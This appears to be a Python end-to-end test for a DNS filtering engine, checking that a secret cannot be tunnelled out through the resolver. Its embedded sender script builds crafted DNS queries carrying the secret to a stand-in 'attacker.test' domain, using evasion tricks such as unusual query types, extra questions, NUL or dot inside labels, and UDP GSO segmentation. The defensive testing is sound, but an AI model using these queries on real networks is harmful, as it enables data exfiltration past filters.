"""Variants of the tunnel through the resolver: the secret in a query of another type or
class, in a second question, in mixed case, under a reverse-lookup name, after the
question, in a query the engine cannot parse, with a dot or a NUL inside a label, and in
one UDP send the kernel cuts into several datagrams after netfilter (UDP GSO). None of it
reaches the wire; allowed names resolve."""

from __future__ import annotations

import sys
import uuid
from pathlib import Path

from tests.e2e.lab import SERVER_V4, SERVER_V6, Lab
from tests.e2e.policies import everyone, web_by_name

POLICY = everyone(web_by_name(80, 443))

# Each query on a socket of its own, to the server given; prints how many were sent.
SENDER = r"""
import socket, struct, sys
server, secret = sys.argv[1], sys.argv[2]
def name(text):
    return b"".join(bytes([len(p)]) + p.encode() for p in text.split(".")) + b"\0"
def labels(*parts):
    return b"".join(bytes([len(p)]) + p for p in parts) + b"\0"
def header(qd=1, ar=0, flags=0x0100, ident=7):
    return struct.pack("!HHHHHH", ident, flags, qd, 0, 0, ar)
def question(qname, qtype=1, qclass=1):
    return qname + struct.pack("!HH", qtype, qclass)
evil = name(secret + ".attacker.test")
allowed = name("www.allowed.test")
queries = [header() + question(evil, qtype) for qtype in (16, 10, 255, 33, 65, 64, 12, 0, 65535)]
queries += [header() + question(evil, 1, qclass) for qclass in (3, 4, 255, 254)]
queries += [
    header(qd=2) + question(allowed) + question(evil),            # a second question
    header(qd=2) + question(evil) + question(allowed),
    header() + question(name(secret.upper() + ".Attacker.TEST")),  # case
    header() + question(name(secret + ".2.1.18.198.in-addr.arpa"), 12),  # reverse + data
    header() + question(allowed) + secret.encode(),                # bytes after the question
    header(ar=1) + question(allowed) + b"\0\0\x29\x10\0\0\0\0\0\0" + secret.encode(),
    header(flags=0x2800) + question(evil),                         # UPDATE
    header(flags=0x8100) + question(evil),                         # a "response"
    header(qd=0) + evil,                                           # no question
    header() + question(labels(secret.encode(), b"allowed.test")),  # a dot inside a label
    header() + question(labels(secret.encode() + b"\0", b"attacker", b"test")),
    header() + b"\xc0\x0c" + struct.pack("!HH", 1, 1) + evil,      # a pointer
]
family = socket.AF_INET6 if ":" in server else socket.AF_INET
sent = 0
for query in queries:
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.sendto(query, (server, 53))
        sent += 1
    except OSError:
        pass
    s.close()
# UDP GSO: one send the kernel cuts into datagrams of one query each, after netfilter
UDP_SEGMENT = 103
decoy = header() + question(name("w" * (len(secret) + 1) + ".allowed.test"))
hidden = header() + question(evil)
assert len(decoy) == len(hidden)
s = socket.socket(family, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(hidden))
try:
    s.sendto(decoy + hidden + decoy, (server, 53))
except OSError as exc:
    print("gso refused", exc)
print(sent, len(queries))
"""


def test_no_variant_of_a_query_carries_the_secret_out(lab: Lab, dns_log: Path) -> None:
    from tests.e2e.queries import dig

    lab.start_engine(lab.write_config(POLICY))
    sniffed = lab.sniff()
    secrets = []
    for server in (SERVER_V4, SERVER_V6):
        leak = f"s{uuid.uuid4().hex}"
        secrets.append(leak)
        out = lab.exec(lab.client, sys.executable, "-c", SENDER, server, leak, timeout=60)
        assert "Traceback" not in out.stderr, out.stderr
        assert "refused" not in out.stdout, out.stdout
    status, answers, _ = dig(lab, "www.allowed.test")
    assert status == "NOERROR" and answers, "allowed names still resolve"
    lab.exec(lab.client, "sleep", "1")
    log = dns_log.read_text()
    for leak in secrets:
        assert leak not in log, f"{leak} reached the resolver"
        assert not sniffed.contains(leak.encode()), f"{leak} was on the wire"
        assert not sniffed.contains(leak.upper().encode()), f"{leak} was on the wire"
